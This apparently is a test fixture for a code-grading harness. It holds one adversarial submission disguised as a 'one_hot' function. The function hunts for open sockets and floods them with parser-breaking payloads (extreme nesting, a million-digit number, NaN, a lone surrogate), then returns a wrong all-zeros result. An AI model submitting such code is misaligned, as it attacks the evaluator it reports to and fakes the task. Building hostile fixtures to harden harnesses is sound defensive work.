"""Sends a reply nested a hundred thousand deep, and one with a number of a million digits."""

LOSES = ("next_token_pairs",)
ANSWERS = {
    "one_hot": r"""
import os
import stat
import struct

bodies = [b"[" * 100_000 + b"]" * 100_000, b"9" * 10**6, b'{"a":' * 50_000, b"NaN", b'"\\ud800"']


def one_hot(ids, V):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.set_blocking(fd, False)
                for body in bodies:
                    for head in (">I", "<I"):
                        os.write(fd, struct.pack(head, len(body)) + body)
        except OSError:
            pass
    return np.zeros((len(ids), V))
""",
}
